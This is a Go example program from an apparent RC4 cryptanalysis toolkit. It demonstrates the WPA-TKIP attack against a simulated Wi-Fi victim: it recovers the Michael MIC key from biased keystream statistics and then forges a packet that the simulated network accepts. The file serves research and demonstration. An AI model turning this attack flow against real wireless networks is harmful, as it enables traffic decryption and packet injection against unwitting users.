// TKIP example: a compact end-to-end run of the §5 WPA-TKIP attack against
// the in-process network simulator — train a per-TSC model, capture
// encryptions of an injected packet, decrypt its MIC+ICV trailer via the
// ICV-pruned candidate list, recover the Michael MIC key, and forge a
// packet the network accepts. (`rc4attack -attack tkip` is the fully
// flagged tool; this example uses fixed small parameters so it runs in well
// under a minute.)
package main

import (
	"fmt"
	"math/rand"

	"rc4break/internal/netsim"
	"rc4break/internal/online"
	"rc4break/internal/packet"
	"rc4break/internal/rc4"
	"rc4break/internal/tkip"
)

func main() {
	msduLen := packet.HeaderSize + 7 // the paper's 7-byte-payload packet
	positions := tkip.TrailerPositions(msduLen)

	fmt.Println("training per-TSC keystream model (scaled down)...")
	model, err := tkip.Train(tkip.TrainConfig{
		Positions:  positions[len(positions)-1],
		KeysPerTSC: 1 << 11,
	})
	if err != nil {
		panic(err)
	}

	session := &tkip.Session{
		TK:     [16]byte{0xde, 0xad, 0xbe, 0xef, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12},
		MICKey: [8]byte{0x13, 0x37, 0xc0, 0xde, 0xf0, 0x0d, 0xbe, 0xef},
		TA:     [6]byte{0, 1, 2, 3, 4, 5},
		DA:     [6]byte{6, 7, 8, 9, 10, 11},
		SA:     [6]byte{12, 13, 14, 15, 16, 17},
	}
	victim := netsim.NewWiFiVictim(session, []byte("PAYLOAD"))

	attack, err := tkip.NewAttack(model, positions)
	if err != nil {
		panic(err)
	}
	// The true trailer the simulation re-encrypts (model mode).
	f := session.Encapsulate(victim.MSDU, 0)
	key := tkip.MixKey(session.TK, session.TA, 0)
	plain := make([]byte, len(f.Body))
	rc4.MustNew(key[:]).XORKeyStream(plain, f.Body)
	trailer := plain[msduLen:]

	const copies = 6 << 20
	fmt.Printf("capturing %d encrypted copies of the injected packet...\n", copies)
	if err := attack.SimulateCaptures(rand.New(rand.NewSource(1)), trailer, copies); err != nil {
		panic(err)
	}

	fmt.Println("walking candidate list, pruning by ICV...")
	oracle := &tkip.TrailerOracle{DA: session.DA, SA: session.SA, MSDU: victim.MSDU}
	res, err := online.Search(attack, oracle, 1<<18)
	if err != nil {
		panic(err)
	}
	if res.Plaintext == nil {
		fmt.Printf("no ICV-valid trailer in the top %d candidates this run\n", res.Checks)
		return
	}
	micKey := oracle.MICKey
	fmt.Printf("correct ICV at candidate %d; recovered MIC key %x (real %x)\n",
		res.Rank, micKey, session.MICKey)

	forged := (&tkip.Session{TK: session.TK, MICKey: micKey, TA: session.TA,
		DA: session.DA, SA: session.SA}).Encapsulate([]byte("owned by rc4break - forged traffic"), 0xBEEF)
	if _, err := session.Decapsulate(forged); err == nil {
		fmt.Println("forged packet accepted: attacker can now inject and decrypt traffic")
	}
}
